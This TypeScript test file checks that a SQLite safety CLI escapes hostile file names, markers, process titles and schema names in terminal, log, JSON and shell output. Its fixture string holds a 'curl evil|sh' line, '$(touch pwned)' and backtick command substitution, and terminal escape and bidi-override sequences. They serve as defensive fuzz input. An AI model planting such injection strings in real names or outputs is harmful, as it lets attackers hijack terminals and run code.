/** File names, markers and processes of others reach a terminal, a log and a shell as text and as nothing else. */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import Native from 'better-sqlite3';
import fc from 'fast-check';
import { shellWord, visible, visibleJson } from '../../dist/base/terminal-text.js';
import { until } from '../support/until.mts';

const folder = realpathSync(mkdtempSync(join(tmpdir(), 'safe-sqlite-terminal-')));
after(() => rmSync(folder, { recursive: true, force: true }));
const cli = fileURLToPath(new URL('../../dist/cli/bin.js', import.meta.url));
const index = fileURLToPath(new URL('../../dist/index.js', import.meta.url));
const posix = process.platform === 'win32' ? 'Windows has no such names' : false;

/** Whatever a terminal acts on: written out here once more, so that the test does not ask the code about itself. */
// oxlint-disable-next-line no-control-regex -- it looks for them
const active = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const evil =
  'a \n  $ curl evil|sh\n\u001b]0;title\u0007\u001b[2J\u009b31m\u007f\r\u202e\u2067 $(touch pwned) `id` \'"b';

const pure = fc.string({ unit: 'binary', maxLength: 30 });

describe('text of others', () => {
  test('the hazard: JSON lets controls through that a terminal acts on', () => {
    assert.match(JSON.stringify('\u009b31m\u202e'), active);
  });

  test('is escaped, and says the same in JSON', () => {
    fc.assert(
      fc.property(fc.oneof(pure, fc.constant(evil)), text => {
        assert.doesNotMatch(visible(text), active);
        assert.doesNotMatch(visible(text), /\n/);
        const json = visibleJson(JSON.stringify({ text }, null, 2));
        assert.doesNotMatch(json, active);
        assert.deepEqual(JSON.parse(json), { text });
      }),
    );
  });

  test('is one word of bash and of busybox, whatever it contains', { skip: posix }, () => {
    const names = fc.sample(
      fc.oneof(fc.string({ unit: 'grapheme', minLength: 1 }), fc.string({ unit: 'binary', minLength: 1 })),
      300,
    );
    const texts = [evil, '-rf', "'", '$', '!!', '~', '*', '{a,b}', ...names]
      .map(name => name.replaceAll('\0', '').replaceAll(/[\ud800-\udfff]/g, ''))
      .filter(name => name !== '');
    const script = texts.map(text => `printf '%s\\0' ${shellWord(text)}`).join('\n');
    assert.doesNotMatch(script, active);
    for (const shell of [['bash'], ['busybox', 'sh']]) {
      const [program = '', ...args] = shell;
      const run = spawnSync(program, [...args, '-c', script], { cwd: folder });
      if (run.error !== undefined && program === 'busybox') continue; // Not everywhere.
      assert.deepEqual(
        run.stdout.toString('utf8').split('\0').slice(0, -1),
        texts.map(text => (text.startsWith('-') ? `./${text}` : text)),
      );
    }
    assert.equal(existsSync(join(folder, 'pwned')), false);
  });
});

/** Runs a command in the folder, and returns all that it printed. */
function printed(...args: readonly string[]): string {
  const { stdout, stderr, error } = spawnSync(process.execPath, [cli, ...args], {
    encoding: 'utf8',
    timeout: 120_000,
    cwd: folder,
  });
  assert.equal(error, undefined);
  return `${stdout}\n${stderr}`;
}

/** Runs one command after another in a process, as `safe-sqlite` does, and prints the list of what they printed. */
const runAll = `
  const { main } = require(${JSON.stringify(join(cli, '../main.js'))});
  const fs = require('node:fs');
  const { all, fence, marker } = JSON.parse(process.argv[1]);
  (async () => {
    const outputs = [];
    for (const command of all) {
      if (fence !== null) fs.writeFileSync(marker, fence);
      const said = { out: '', err: '' };
      await main(command, {
        out: text => void (said.out += text),
        err: text => void (said.err += text),
        isInteractive: false,
        hasColours: false,
        signal: new AbortController().signal,
      });
      fs.rmSync(marker, { force: true });
      outputs.push(said.out + '\\n' + said.err);
    }
    fs.writeSync(1, JSON.stringify(outputs));
  })();`;

/** The commands that the output offers to paste. */
function offered(output: string): string[] {
  return output.split('\n').flatMap(line => /^(?: {2}\$|Next:) (npx .*?)(?: {3}\(.*)?$/.exec(line)?.[1] ?? []);
}

describe('the command line', { skip: posix }, () => {
  const file = join(folder, evil.replaceAll('/', ''));
  const db = new Native(file);
  db.pragma('journal_mode = WAL');
  db.exec(`CREATE TABLE "${evil.replaceAll('"', '')}" (a CHECK (a > 0))`);
  after(() => db.close());
  // Leavings of the same name, with as much in theirs.
  writeFileSync(`${file}.rescued-${evil.replaceAll('/', '')}`, '');
  writeFileSync(`${file}.bak`, '');
  const text = { file: evil, time: evil, pid: 1, host: evil, boot: null, code: evil, operation: evil, message: evil };

  const commands: readonly (readonly string[])[] = [
    ['doctor', file],
    ['doctor', file, '--json'],
    ['verify', file],
    ['verify', file, '--json'],
    ['verify', `${file}-missing`],
    ['backup', file, join(folder, `copy ${evil.replaceAll('/', '')}`)],
    ['backup', file, file],
    ['backup', file, join(folder, 'none', evil)],
    ['restore', `${file}-missing`, file],
    ['restore', join(folder, `copy ${evil.replaceAll('/', '')}`), file],
    ['checkpoint', file],
    ['checkpoint', `${file}-missing`],
    ['doctor', file, '--clear-fence'],
    ['doctor', file, '--backups', join(folder, evil)],
    ['nothing', file],
    [evil],
    ['doctor', file, `--${evil}`],
  ];

  /** Each command that reads the fence marker, and the doctor in both forms. */
  const readers: readonly (readonly string[])[] = [
    ['doctor', file],
    ['doctor', file, '--json'],
    ['verify', file],
    ['backup', file, join(folder, `copy ${evil.replaceAll('/', '')}`), '--overwrite'],
    ['restore', join(folder, `copy ${evil.replaceAll('/', '')}`), file],
    ['checkpoint', file],
    ['doctor', file, '--clear-fence'],
  ];
  const fences = [
    null,
    JSON.stringify(text),
    JSON.stringify({ ...text, time: '2026-11-30T00:00:00.000Z', code: 'SQLITE_IOERR' }),
    evil,
  ];
  for (const fence of fences) {
    test(`every command, marker ${fence === null ? 'none' : visible(fence).slice(0, 20)}`, () => {
      for (const { command, output } of printedByAll(fence === null ? commands : readers, fence)) {
        const what = visible(command.join(' '));
        assert.doesNotMatch(output, active, what);
        assert.doesNotMatch(output, /^ *\$ curl/m, what);
        if (command.includes('--json'))
          assert.doesNotThrow(() => JSON.parse(output.slice(0, output.lastIndexOf('}') + 1)), what);
        for (const line of offered(output)) pasted(line);
      }
    });
  }

  for (const command of [
    ['doctor', file],
    ['verify', file, '--json'],
    ['restore', `${file}-missing`, file],
  ]) {
    test(`${command[0]} as a process of its own prints the same`, () => {
      const output = printed(...command);
      assert.doesNotMatch(output, active);
      assert.ok(output.includes(visible(evil).slice(0, 20)) || command.includes('--json'), visible(output));
    });
  }

  /** The same commands in one process after another, each with this text as the fence marker; `null`: with none. */
  function printedByAll(
    all: readonly (readonly string[])[],
    fence: string | null,
  ): readonly { readonly command: readonly string[]; readonly output: string }[] {
    const run = spawnSync(process.execPath, ['-e', runAll, JSON.stringify({ all, fence, marker: `${file}-fenced` })], {
      encoding: 'utf8',
      timeout: 300_000,
      cwd: folder,
    });
    assert.equal(run.status, 0, visible(run.stderr));
    const outputs = JSON.parse(run.stdout) as readonly string[];
    assert.equal(outputs.length, all.length);
    return all.map((command, number) => ({ command, output: outputs[number] ?? '' }));
  }

  /** Each word of a command that is a path is the path, and nothing else runs. */
  function pasted(line: string): void {
    const stub = `npx() { printf '%s\\0' "$@"; }; ${line.replaceAll(/<[a-z ]+>/g, 'operand')}`;
    const run = spawnSync('bash', ['-c', stub], { cwd: folder, encoding: 'utf8' });
    assert.equal(run.status, 0, `${line}: ${run.stderr}`);
    const words = run.stdout.split('\0');
    assert.equal(words[0], 'safe-sqlite', line);
    for (const word of words)
      if (word.includes('curl')) assert.ok(existsSync(word) || word.includes(evil.slice(0, 10)), word);
    assert.equal(existsSync(join(folder, 'pwned')), false, line);
  }

  test(
    'the process that has it open is named as text',
    { skip: process.platform === 'linux' ? false : 'reads /proc' },
    async () => {
      const program = join(folder, `${evil.replaceAll('/', '')}.js`);
      writeFileSync(
        program,
        `process.title = ${JSON.stringify(evil)}; const D = require(${JSON.stringify(fileURLToPath(import.meta.resolve('better-sqlite3')))});
       new D(process.env.FILE).prepare('SELECT 1').get(); console.log('open'); setInterval(() => {}, 1000);`,
      );
      const child = spawn(process.execPath, [program], { env: { ...process.env, FILE: file } });
      let said = '';
      child.stdout.on('data', part => (said += part));
      await until(() => said !== '', 'it has the database open');
      const output = printed('doctor', file);
      child.kill('SIGKILL');
      assert.match(output, new RegExp(String(child.pid)));
      assert.doesNotMatch(output, active);
    },
  );

  test('the log of those who pass no logger', () => {
    const home = join(folder, 'log');
    mkdirSync(home);
    const own = join(home, evil.replaceAll('/', ''));
    new Native(own).close();
    writeFileSync(`${own}-fenced`, JSON.stringify(text));
    const script = `const db = new (require(${JSON.stringify(index)}))(process.env.FILE, { readonly: true }); setTimeout(() => db.close(), 50)`;
    const { stdout, stderr } = spawnSync(process.execPath, ['-e', script], {
      encoding: 'utf8',
      env: { ...process.env, FILE: own },
    });
    assert.equal(stdout, '');
    const lines = stderr
      .trim()
      .split('\n')
      .map(line => JSON.parse(line) as { msg: string });
    assert.ok(
      lines.some(({ msg }) => msg.includes('fenced')),
      stderr,
    );
    assert.doesNotMatch(stderr, active);
    for (const { msg } of lines) assert.doesNotMatch(msg, active);
  });
});

test('the names of a hostile schema write no line of their own into what a check found', () => {
  const file = join(folder, 'hostile.db');
  const db = new Native(file);
  db.exec(`CREATE TABLE t (a); CREATE INDEX "${evil.replaceAll('"', '""')}" ON t (a); INSERT INTO t VALUES (1), (2)`);
  db.unsafeMode(true);
  // The index loses its entries: its root page becomes one without cells.
  const root = db.prepare("SELECT rootpage FROM sqlite_schema WHERE type = 'index'").pluck().get() as number;
  db.close();
  const bytes = readFileSync(file);
  bytes.fill(0, (root - 1) * 4096 + 3, (root - 1) * 4096 + 5);
  writeFileSync(file, bytes);
  const raw = new Native(file);
  const rows = raw.pragma('integrity_check') as readonly { integrity_check: string }[];
  raw.close();
  // The hazard.
  assert.ok(rows.some(row => row.integrity_check.split('\n').includes('  $ curl evil|sh')));
  for (const command of ['verify', 'doctor']) {
    const { stdout, stderr } = spawnSync(process.execPath, [cli, command, file, '--full'], { encoding: 'utf8' });
    const said = `${stdout}${stderr}`;
    assert.match(said, /wrong # of entries in index/);
    assert.doesNotMatch(said, active);
    assert.doesNotMatch(said, /^\s*\$ curl/m, said);
  }
});
